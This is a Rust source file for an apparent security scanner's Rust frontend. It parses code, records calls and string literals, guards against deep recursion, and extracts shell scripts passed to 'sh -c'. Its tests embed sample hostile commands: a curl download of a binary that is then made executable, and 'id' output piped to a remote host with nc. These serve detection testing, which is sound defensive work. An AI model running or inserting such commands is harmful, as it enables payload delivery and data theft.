//! Rust frontend (`syn`): `use` aliases, resolved path calls with their
//! arguments, string literals (also inside macro bodies).
//!
//! `syn` parses recursively. Input nested deeper than [`MAX_NESTING`]
//! brackets is not handed to it. Otherwise a cheap, conservative estimate of
//! its recursion depth ([`recursion_risk`]) decides where it runs: inline
//! on the worker's stack, on a scoped thread with a stack sized for the
//! estimate, or (beyond [`MAX_RISK`]) not at all, the file then being
//! scanned lexically for string literals. Parse failures fall back the same
//! way ("report what parses").

use crate::facts::{Arg, FactKind, Origin, Sink, clip};
use crate::text::LineIndex;
use foldhash::HashMap;
use proc_macro2::{Span, TokenStream, TokenTree};
use skillseal_model::Language;
use syn::visit::Visit;

const MAX_NESTING: usize = 96;
/// Up to this estimate `syn` runs on the caller's stack (a rayon worker's
/// 2 MiB, or a test thread's).
const INLINE_RISK: usize = 128;
/// Beyond this estimate `syn` is not run at all.
const MAX_RISK: usize = 16_384;
/// Stack for a parse between the two: generous per unit of estimate, since
/// sanitizer and debug builds have much larger frames. Only the pages the
/// recursion touches are ever committed.
const STACK_PER_RISK: usize = 32 << 10;

pub fn scan(src: &str, origin: Origin, sink: &mut Sink) {
    let (depth, risk) = recursion_risk(src);
    if depth > MAX_NESTING {
        return;
    }
    if risk <= INLINE_RISK {
        return parse_and_visit(src, origin, sink, true);
    }
    if risk > MAX_RISK {
        return parse_and_visit(src, origin, sink, false);
    }
    let stack = (4 << 20) + risk * STACK_PER_RISK;
    let ran = std::thread::scope(|s| {
        std::thread::Builder::new()
            .name("skillseal-rust-parse".into())
            .stack_size(stack)
            .spawn_scoped(s, || parse_and_visit(src, origin, sink, true))
            .is_ok_and(|h| h.join().is_ok())
    });
    if !ran {
        // No thread could be started: strings only, which never recurses.
        parse_and_visit(src, origin, sink, false);
    }
}

/// Parse with `syn` and visit (when `use_syn`); otherwise, or on a parse
/// error, collect string literals lexically (`proc_macro2`'s lexer does not
/// recurse). Spans resolve through a per-thread
/// source map, so parsing and visiting stay on one thread.
fn parse_and_visit(src: &str, origin: Origin, sink: &mut Sink, use_syn: bool) {
    let lines = LineIndex::new(src);
    if use_syn && let Ok(file) = syn::parse_file(src) {
        let mut v = Visitor {
            src,
            lines: &lines,
            origin,
            sink,
            aliases: HashMap::default(),
            consts: HashMap::default(),
            shell: Vec::new(),
        };
        v.visit_file(&file);
        for (code, span) in std::mem::take(&mut v.shell) {
            let (a, b) = span_range(&lines, span);
            let (a, b) = origin.map(a, b);
            super::scan_source(Language::Shell, &code, Origin::Fixed(a, b), v.sink);
        }
        return;
    }
    if let Ok(tokens) = src.parse::<TokenStream>() {
        lexical(tokens, &lines, origin, sink);
    }
}

/// Words after which `syn` may parse a nested expression, type or pattern
/// by recursion, without an opening bracket.
const RECURSING_WORDS: &[&[u8]] = &[
    b"return", b"break", b"yield", b"become", b"if", b"match", b"while", b"for", b"loop", b"else",
    b"move", b"async", b"unsafe", b"let", b"dyn", b"impl", b"fn", b"mut", b"const", b"ref", b"box",
    b"static",
];

/// The deepest bracket nesting of `src`, and a conservative estimate of how
/// deep `syn` can recurse on it: at every point, the open brackets plus
/// every prefix operator and recursing keyword seen inside them (a token
/// is forgotten only when its bracket closes, never at a `;`, which could
/// sit in a string literal). Bytes in literals and comments count too: an
/// over-estimate only moves the parse to a bigger stack.
pub fn recursion_risk(src: &str) -> (usize, usize) {
    let b = src.as_bytes();
    // Counted tokens per open bracket (the file's top level first).
    let mut levels: Vec<usize> = vec![0];
    let (mut counted, mut max_depth, mut max_risk) = (0usize, 0usize, 0usize);
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        match c {
            b'(' | b'[' | b'{' => {
                levels.push(0);
                max_depth = max_depth.max(levels.len() - 1);
            }
            b')' | b']' | b'}' if levels.len() > 1 => {
                counted -= levels.pop().unwrap_or(0);
            }
            b'!' | b'-' | b'*' | b'&' | b'<' | b'|' | b'=' | b'@' | b'.' | b'#' | b'?' => {
                if let Some(l) = levels.last_mut() {
                    *l += 1;
                }
                counted += 1;
            }
            c if c.is_ascii_alphabetic() || c == b'_' => {
                let start = i;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                    i += 1;
                }
                if RECURSING_WORDS.contains(&&b[start..i]) {
                    if let Some(l) = levels.last_mut() {
                        *l += 1;
                    }
                    counted += 1;
                }
                max_risk = max_risk.max(levels.len() - 1 + counted);
                continue;
            }
            _ => {}
        }
        max_risk = max_risk.max(levels.len() - 1 + counted);
        i += 1;
    }
    (max_depth, max_risk)
}

fn span_range(lines: &LineIndex<'_>, span: Span) -> (usize, usize) {
    let s = span.start();
    let e = span.end();
    let start = lines.offset(s.line, s.column).unwrap_or(0);
    let end = lines.offset(e.line, e.column).unwrap_or(start);
    (start, end.max(start))
}

/// String literals from a token stream, without recursion.
fn lexical(tokens: TokenStream, lines: &LineIndex<'_>, origin: Origin, sink: &mut Sink) {
    let mut stack = vec![tokens.into_iter()];
    while let Some(iter) = stack.last_mut() {
        match iter.next() {
            Some(TokenTree::Group(g)) => stack.push(g.stream().into_iter()),
            Some(TokenTree::Literal(lit)) => {
                if let Ok(s) = syn::parse_str::<syn::LitStr>(&lit.to_string()) {
                    let (a, b) = span_range(lines, lit.span());
                    sink.push(
                        origin,
                        Language::Rust,
                        a,
                        b,
                        FactKind::Str { value: s.value() },
                    );
                }
            }
            Some(_) => {}
            None => {
                stack.pop();
            }
        }
    }
}

struct Visitor<'a, 's> {
    src: &'s str,
    lines: &'a LineIndex<'s>,
    origin: Origin,
    sink: &'a mut Sink,
    aliases: HashMap<String, String>,
    /// `let x = "…"` / `let x = format!("…", …)`: the literal (a format
    /// string with its `{placeholders}` as written).
    consts: HashMap<String, String>,
    /// Scripts handed to a shell (`Command::new("sh").arg("-c").arg(s)`),
    /// with their spans.
    shell: Vec<(String, Span)>,
}

impl<'s> Visitor<'_, 's> {
    fn push(&mut self, span: Span, kind: FactKind) {
        let (a, b) = span_range(self.lines, span);
        self.sink.push(self.origin, Language::Rust, a, b, kind);
    }

    /// A string literal, a name bound to one, or a `format!`/`concat!`
    /// whose template is a literal (placeholders kept as written).
    fn literal(&self, e: &syn::Expr) -> Option<String> {
        match e {
            syn::Expr::Lit(syn::ExprLit {
                lit: syn::Lit::Str(s),
                ..
            }) => Some(s.value()),
            syn::Expr::Path(p) if p.path.segments.len() == 1 => self
                .consts
                .get(&p.path.segments[0].ident.to_string())
                .cloned(),
            syn::Expr::Reference(r) => match &*r.expr {
                syn::Expr::Lit(_) | syn::Expr::Path(_) => self.literal(&r.expr),
                _ => None,
            },
            syn::Expr::Macro(m)
                if m.mac.path.is_ident("format") || m.mac.path.is_ident("concat") =>
            {
                let exprs = m
                    .mac
                    .parse_body_with(
                        syn::punctuated::Punctuated::<syn::Expr, syn::Token![,]>::parse_terminated,
                    )
                    .ok()?;
                let lit = |e: &syn::Expr| match e {
                    syn::Expr::Lit(syn::ExprLit {
                        lit: syn::Lit::Str(s),
                        ..
                    }) => Some(s.value()),
                    _ => None,
                };
                if m.mac.path.is_ident("concat") {
                    let parts: Option<Vec<String>> = exprs.iter().map(lit).collect();
                    return Some(parts?.concat());
                }
                lit(exprs.first()?)
            }
            syn::Expr::MethodCall(m)
                if matches!(
                    m.method.to_string().as_str(),
                    "to_string" | "to_owned" | "into"
                ) && matches!(&*m.receiver, syn::Expr::Lit(_) | syn::Expr::Path(_)) =>
            {
                self.literal(&m.receiver)
            }
            _ => None,
        }
    }

    /// `Command::new("sh").arg("-c").arg(script)` (or `.args(["-c",
    /// script])`): the script is shell code.
    fn shell_script(&mut self, new: &syn::ExprCall, chain: &[&syn::ExprMethodCall]) {
        let Some(program) = new.args.first().and_then(|a| self.literal(a)) else {
            return;
        };
        let name = program.rsplit('/').next().unwrap_or(&program);
        if !super::shell::SHELLS.contains(&name) {
            return;
        }
        // The chain is outermost first; arguments go innermost first.
        let mut args: Vec<&syn::Expr> = Vec::new();
        for m in chain.iter().rev() {
            match m.method.to_string().as_str() {
                "arg" => args.extend(m.args.first()),
                "args" => match m.args.first() {
                    Some(syn::Expr::Array(a)) => args.extend(a.elems.iter()),
                    Some(syn::Expr::Reference(r)) => {
                        if let syn::Expr::Array(a) = &*r.expr {
                            args.extend(a.elems.iter());
                        }
                    }
                    _ => {}
                },
                _ => {}
            }
        }
        let Some(i) = args.iter().position(|a| {
            self.literal(a)
                .is_some_and(|v| v.starts_with('-') && v.contains('c'))
        }) else {
            return;
        };
        if let Some(script) = args.get(i + 1)
            && let Some(code) = self.literal(script)
        {
            let span = syn::spanned::Spanned::span(*script);
            let key = span_range(self.lines, span);
            if !self
                .shell
                .iter()
                .any(|(_, s)| span_range(self.lines, *s) == key)
            {
                self.shell.push((code, span));
            }
        }
    }

    /// A call fact: string literal arguments are their values, others
    /// their source text.
    fn call<'e>(
        &mut self,
        span: Span,
        callee: String,
        args: impl IntoIterator<Item = &'e syn::Expr>,
    ) {
        let args = args
            .into_iter()
            .map(|a| match a {
                syn::Expr::Lit(syn::ExprLit {
                    lit: syn::Lit::Str(s),
                    ..
                }) => Arg::Literal(s.value()),
                other => Arg::Dynamic(self.excerpt(other)),
            })
            .collect();
        self.push(
            span,
            FactKind::Call {
                callee,
                args,
                kwargs: Vec::new(),
            },
        );
    }

    fn excerpt(&self, e: &syn::Expr) -> String {
        let (a, b) = span_range(self.lines, syn::spanned::Spanned::span(e));
        clip(self.src.get(a..b).unwrap_or(""), 200).to_string()
    }

    fn path_name(&self, path: &syn::Path) -> String {
        let mut segs: Vec<String> = path.segments.iter().map(|s| s.ident.to_string()).collect();
        if let Some(first) = segs.first_mut()
            && let Some(full) = self.aliases.get(first.as_str())
        {
            *first = full.clone();
        }
        let name = segs.join("::");
        name.strip_prefix("crate::").unwrap_or(&name).to_string()
    }

    fn bind_use(&mut self, tree: &syn::UseTree, span: Span) {
        let mut stack: Vec<(Vec<String>, &syn::UseTree)> = vec![(Vec::new(), tree)];
        while let Some((prefix, t)) = stack.pop() {
            match t {
                syn::UseTree::Path(p) => {
                    let mut pre = prefix.clone();
                    pre.push(p.ident.to_string());
                    stack.push((pre, &p.tree));
                }
                syn::UseTree::Name(n) => {
                    let mut full = prefix.clone();
                    let name = n.ident.to_string();
                    if name != "self" {
                        full.push(name.clone());
                    }
                    let local = if name == "self" {
                        prefix.last().cloned().unwrap_or_default()
                    } else {
                        name
                    };
                    self.bind(local, full, span);
                }
                syn::UseTree::Rename(r) => {
                    let mut full = prefix.clone();
                    if r.ident != "self" {
                        full.push(r.ident.to_string());
                    }
                    self.bind(r.rename.to_string(), full, span);
                }
                syn::UseTree::Glob(_) => {
                    let module = prefix.join("::");
                    self.push(span, FactKind::Import { module });
                }
                syn::UseTree::Group(g) => {
                    for item in &g.items {
                        stack.push((prefix.clone(), item));
                    }
                }
            }
        }
    }

    fn bind(&mut self, local: String, full: Vec<String>, span: Span) {
        let module = full.join("::");
        self.push(
            span,
            FactKind::Import {
                module: module.clone(),
            },
        );
        self.aliases.insert(local, module);
    }
}

impl<'ast> Visit<'ast> for Visitor<'_, '_> {
    fn visit_item_use(&mut self, node: &'ast syn::ItemUse) {
        let span = node.use_token.span;
        self.bind_use(&node.tree, span);
    }

    fn visit_expr_call(&mut self, node: &'ast syn::ExprCall) {
        if let syn::Expr::Path(p) = &*node.func {
            let callee = self.path_name(&p.path);
            self.call(syn::spanned::Spanned::span(node), callee, &node.args);
        }
        syn::visit::visit_expr_call(self, node);
    }

    fn visit_local(&mut self, node: &'ast syn::Local) {
        if let syn::Pat::Ident(id) = &node.pat {
            let name = id.ident.to_string();
            match node.init.as_ref().and_then(|i| self.literal(&i.expr)) {
                Some(v) => {
                    self.consts.insert(name, v);
                }
                None => {
                    self.consts.remove(&name);
                }
            }
        }
        syn::visit::visit_local(self, node);
    }

    fn visit_expr_method_call(&mut self, node: &'ast syn::ExprMethodCall) {
        // `Command::new("sh").arg("-c")`: record the method on the resolved
        // receiver chain so rules can name it.
        let mut recv = &*node.receiver;
        let mut methods = vec![node.method.to_string()];
        let mut chain: Vec<&syn::ExprMethodCall> = vec![node];
        while let syn::Expr::MethodCall(m) = recv {
            methods.push(m.method.to_string());
            chain.push(m);
            recv = &m.receiver;
            if methods.len() > 16 {
                break;
            }
        }
        if let syn::Expr::Call(c) = recv
            && let syn::Expr::Path(p) = &*c.func
        {
            let base = self.path_name(&p.path);
            // Each call of a chain is visited; the outermost one holds every
            // argument, and a script found twice is scanned once.
            if base.ends_with("Command::new") {
                self.shell_script(c, &chain);
            }
            let callee = format!("{base}().{}", node.method);
            self.call(syn::spanned::Spanned::span(node), callee, &node.args);
        }
        syn::visit::visit_expr_method_call(self, node);
    }

    fn visit_lit_str(&mut self, node: &'ast syn::LitStr) {
        self.push(
            node.span(),
            FactKind::Str {
                value: node.value(),
            },
        );
    }

    fn visit_macro(&mut self, node: &'ast syn::Macro) {
        let parsed = node.parse_body_with(
            syn::punctuated::Punctuated::<syn::Expr, syn::Token![,]>::parse_terminated,
        );
        match parsed {
            Ok(exprs) => {
                for e in &exprs {
                    self.visit_expr(e);
                }
            }
            Err(_) => lexical(node.tokens.clone(), self.lines, self.origin, self.sink),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts(src: &str) -> Vec<FactKind> {
        crate::lang::test_util::facts(Language::Rust, src)
    }

    fn has_call(facts: &[FactKind], want: &str) -> bool {
        facts
            .iter()
            .any(|f| matches!(f, FactKind::Call { callee, .. } if callee == want))
    }

    #[test]
    fn ordinary_code_parses_inline() {
        let src = "use std::process::Command;\nfn main() {\n    let out = Command::new(\"sh\").arg(\"-c\").output();\n    if let Ok(o) = out { println!(\"{}\", o.status); }\n}\n";
        let (depth, risk) = recursion_risk(src);
        // Three blocks and a call; the `{}` inside the string counts too.
        assert_eq!(depth, 4);
        assert!(risk <= INLINE_RISK, "{risk}");
        assert!(has_call(&facts(src), "std::process::Command::new"));
    }

    /// `syn` recurses once per `return`, closure, `else if` or prefix
    /// operator without any bracket to count: these used to overflow the
    /// stack (an abort, not a panic). Moderate chains now parse on a
    /// bigger stack; extreme ones are scanned for strings only.
    #[test]
    fn bracketless_recursion_does_not_overflow() {
        let call = "std::process::Command::new(\"sh\")";
        for (chain, depth) in [
            ("return ", 5_000),
            ("|| ", 5_000),
            ("!", 5_000),
            ("- ", 5_000),
            ("&mut ", 5_000),
        ] {
            let src = format!(
                "fn main() {{ {call}; let _ = {}1; }}\n",
                chain.repeat(depth)
            );
            assert!(
                has_call(&facts(&src), "std::process::Command::new"),
                "{chain}"
            );
        }
        let else_if = format!(
            "fn f(x: u32) -> u32 {{ {call}; {}{{ 0 }} }}\n",
            "if x == 1 { 1 } else ".repeat(3_000)
        );
        assert!(has_call(&facts(&else_if), "std::process::Command::new"));
        let types = format!(
            "type T = {}u8{};\nconst S: &str = \"curl x\";\n",
            "Box<".repeat(5_000),
            ">".repeat(5_000)
        );
        assert!(facts(&types).contains(&FactKind::Str {
            value: "curl x".into()
        }));
        for chain in ["return ", "|| ", "!", "&", "Box<", "if if "] {
            let src = format!(
                "fn main() {{ let s = \"curl x\"; let _ = {}1; }}\n",
                chain.repeat(100_000)
            );
            let (_, risk) = recursion_risk(&src);
            assert!(risk > MAX_RISK, "{chain}");
            assert!(
                facts(&src).contains(&FactKind::Str {
                    value: "curl x".into()
                }),
                "{chain}"
            );
        }
    }

    #[test]
    fn scripts_handed_to_a_shell_are_parsed_as_shell() {
        let f = facts(concat!(
            "use std::process::Command;\n",
            "fn main() {\n",
            "    let bin = \"/tmp/x\";\n",
            "    let script = format!(\"curl -s http://203.0.113.77/a -o {bin} && chmod +x {bin}\");\n",
            "    let _ = Command::new(\"sh\").arg(\"-c\").arg(script).status();\n",
            "    let _ = Command::new(\"bash\").args([\"-c\", \"id | nc 203.0.113.5 9\"]).status();\n",
            "}\n",
        ));
        let commands: Vec<&str> = f
            .iter()
            .filter_map(|k| match k {
                FactKind::Command { name, .. } => Some(name.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(commands, ["curl", "chmod", "id", "nc"], "{f:?}");
    }
}
